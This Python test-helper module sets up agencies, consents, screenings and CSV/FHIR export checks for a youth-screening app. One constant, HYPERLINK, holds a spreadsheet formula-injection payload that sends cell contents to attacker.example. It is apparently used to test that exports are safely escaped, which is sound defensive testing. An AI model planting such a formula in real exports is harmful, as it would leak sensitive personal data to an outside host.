"""Helpers of the export and summary tests: a small instrument in two versions, and a scene of three agencies.

A holds a person's record and screens them; B holds its own record of the same person (linked, as a
consented link does); C holds none.
"""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import date, timedelta
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import insert
from sqlmodel import Session, select

from app import crypto
from app.crypto import KeyRing
from app.exports import tabular
from app.models import Agency, Answer, Screening, ScreeningResult, User, Youth, utcnow
from app.models_sharing import Category, Consent, ConsentMethod, Disclosure, Grantor, Purpose
from app.records import service as records
from app.records.schemas import YouthCreate
from app.screenings import service as screenings
from app.screenings.schemas import AnswersSave, ScreeningCreate
from app.sharing import consent as consents
from app.sharing.schemas import ConsentCreate
from instruments.loader import BUNDLED_DIR, Registry, load
from tests.app.conftest import World
from tests.app.fhir_support import validate

MINI = "export-mini"
PRACTITIONER = "tellonce-practitioner-indicators"
BRIEF = "tellonce-brief-screen"
HYPERLINK = '=HYPERLINK("http://attacker.example/?x="&A1,"Open")'
ALL = [c.value for c in Category]


def today() -> date:
    """Today in UTC, which exports select by (completion date). Read per use, not once at import: a run
    that crosses midnight UTC would otherwise ask for yesterday's screenings."""
    return utcnow().date()


MINI_YAML = """
id: export-mini
version: {version}
title: {{en: Export mini}}
description: {{en: 'A tiny instrument for the export tests'}}
authors: [TellOnce tests]
license: CC-BY-4.0
provenance: {{validated: false, statement: {{en: Written for tests}}}}
modes: [practitioner, interview]
languages: [en]
default_language: en
sections:
  - {{id: only, title: {{en: Only}}}}
domains:
  - id: work
    title: {{en: Work}}
    indicators:
      - {{id: work.unpaid, text: {{en: Unpaid work}}}}
items:
  - id: unpaid
    section: only
    type: yes_no
    text: {{en: 'Were you ever not paid?'}}
    indicates:
      - {{indicator: work.unpaid, level: clear_concern, answers: ['yes']}}
  - {{id: {extra}, section: only, type: yes_no, text: {{en: 'A question of version {version}'}}}}
  - {{id: employer, section: only, type: short_text, text: {{en: 'Who do you work for?'}}}}
scoring:
  domain:
    - {{level: clear_concern, when: "any(indicators, level='clear_concern')", explain: {{en: 'Unpaid work.'}}}}
    - {{level: no_concern, explain: {{en: 'Nothing concerning.'}}}}
  overall:
    - {{level: clear_concern, when: "any(indicators, level='clear_concern')", explain: {{en: 'Unpaid work.'}}}}
    - {{level: no_concern, explain: {{en: 'Nothing concerning.'}}}}
"""


def mini_registry(tmp_path_factory: pytest.TempPathFactory) -> Registry:
    """The bundled instruments and two versions of a small one: 2.0.0 drops `old_question`, adds `new_question`."""
    folder = tmp_path_factory.mktemp("instruments")
    (folder / "mini-1.yaml").write_text(MINI_YAML.format(version="1.0.0", extra="old_question"))
    (folder / "mini-2.yaml").write_text(MINI_YAML.format(version="2.0.0", extra="new_question"))
    loaded_result = load([BUNDLED_DIR, folder])
    loaded, problems = loaded_result.registry, loaded_result.problems
    assert not problems, problems
    return loaded


@dataclass
class Scene:
    """A holds a person's record and screens them; B holds its own record of the same person; C none."""

    db: Session
    keys: KeyRing
    registry: Registry
    a: Agency
    b: Agency
    c: Agency
    supervisor: User  # at A: runs the exports
    screener: User  # at A
    admin: User  # at A: records consents
    youth: Youth

    def screen(
        self, answers: dict[str, Any], *, instrument: str = MINI, version: str | None = "1.0.0", notes: str = ""
    ) -> Screening:
        """A completed screening of the person by A."""
        data = ScreeningCreate(
            youth_id=self.youth.id, instrument_id=instrument, instrument_version=version, mode="practitioner"
        )
        started = screenings.start(self.db, self.keys, self.registry, self.screener, data)
        save = AnswersSave(version=1, answers=answers, notes=notes or None)
        screenings.save_answers(self.db, self.keys, self.registry, self.screener, started.id, save)
        done = screenings.complete(self.db, self.keys, self.registry, self.screener, started.id, 2)
        self.db.commit()
        return done

    def consent(self, *categories: Category, purpose: Purpose = Purpose.care_coordination, to: str = "b") -> Consent:
        data = ConsentCreate(
            youth_id=self.youth.id,
            to_agency_id=getattr(self, to).id,
            grantor=Grantor.youth,
            authority="Signed release of information",
            categories=list(categories),
            purpose=purpose,
            ends_at=utcnow() + timedelta(days=30),
            method=ConsentMethod.written,
        )
        given = consents.record(self.db, self.admin, data)
        self.db.commit()
        return given

    def export(self, fmt: str = "csv", *, to: str = "b", categories: list[str] | None = None, **options: Any) -> str:
        """The whole export as text."""
        terms = (getattr(self, to).id, today() - timedelta(days=1), today(), categories or ALL, "care_coordination")
        planned = tabular.prepare(self.db, self.registry, self.supervisor, *terms)
        return "".join(tabular.stream(self.db, self.keys, self.registry, planned, fmt, **options))

    def ledger(self) -> list[Disclosure]:
        self.db.expire_all()
        return list(self.db.exec(select(Disclosure).where(Disclosure.kind == "export")))


def make_scene(world: World, registry: Registry) -> Scene:
    db, keys = world.session, crypto.get_key_ring()
    a = world.agency("Northside Youth Services")
    b, c = (
        world.agency("Eastside Child Welfare", "child_welfare"),
        world.agency("Harbor Safe Shelter", "victim_service"),
    )
    screener = world.user(a, "screener")
    data = YouthCreate(given_name="Avery", family_name="Testcase", birth_date=date(2010, 4, 2), case_number="A-1")
    youth = records.create(db, keys, screener, data)
    own_b = records.create(db, keys, world.user(b, "screener"), data.model_copy(update={"case_number": "B-1"}))
    own_b.person_id = youth.person_id  # B's record is linked to the same person (as a consented link does)
    db.add(own_b)
    db.commit()
    return Scene(
        db, keys, registry, a, b, c, world.user(a, "supervisor"), screener, world.user(a, "agency_admin"), youth
    )


def validate_fhir(resource: dict[str, Any]) -> Any:
    """Validate with the fhir.resources R4B models and the R4 JSON Schema, and walk it for empty values
    (a Bundle's entries too): `fhir_support.validate`."""
    return validate(resource)


def parse(text: str) -> list[dict[str, str]]:
    """The CSV as the standard library reads it (no spreadsheet library needed)."""
    return list(csv.DictReader(io.StringIO(text, newline="")))


def bulk(scene: Scene, count: int) -> None:
    """Many completed screenings of the person, written straight to the tables (fast)."""
    model = scene.screen({"unpaid": "yes", "old_question": "no", "employer": "Acme"})
    result, _read = screenings.result_of(scene.db, scene.keys, scene.supervisor, model.id)
    now, keys = utcnow(), scene.keys
    base = {k: getattr(model, k) for k in ("youth_id", "agency_id", "instrument_id", "instrument_version")}
    base.update(content_hash=model.content_hash, mode="practitioner", language="en", status="completed")
    ids = [f"{n:032x}" for n in range(1, count)]
    scene.db.execute(
        insert(Screening),
        [{**base, "id": i, "started_by": scene.screener.id, "started_at": now, "completed_at": now} for i in ids],
    )
    scene.db.execute(
        insert(ScreeningResult),
        [
            {
                "screening_id": i,
                "overall_level": "clear_concern",
                "engine_version": "1",
                "scored_at": now,
                "result_enc": keys.encrypt_json(result, "screening_result", "result", i),
            }
            for i in ids
        ],
    )
    scene.db.execute(
        insert(Answer),
        [
            {
                "screening_id": i,
                "item_id": "employer",
                "updated_at": now,
                "value_enc": keys.encrypt_json("Acme", "answer", "value", f"{i}:employer"),
            }
            for i in ids
        ],
    )
    scene.db.commit()


def practitioner(
    scene: Scene, client: TestClient, *, consent: bool = True, notes: str = ""
) -> tuple[Screening, Consent | None]:
    """A's completed practitioner rating (Clear concern) under the app's instruments; a summary consent to B."""
    scene.registry = client.app.state.registry  # type: ignore[attr-defined]
    answers = {"rate_coercion_debt": "clear_concern", "rate_housing_unstable": "possible_concern"}
    done = scene.screen(answers, instrument=PRACTITIONER, version=None, notes=notes)
    return done, scene.consent(Category.result_summary) if consent else None
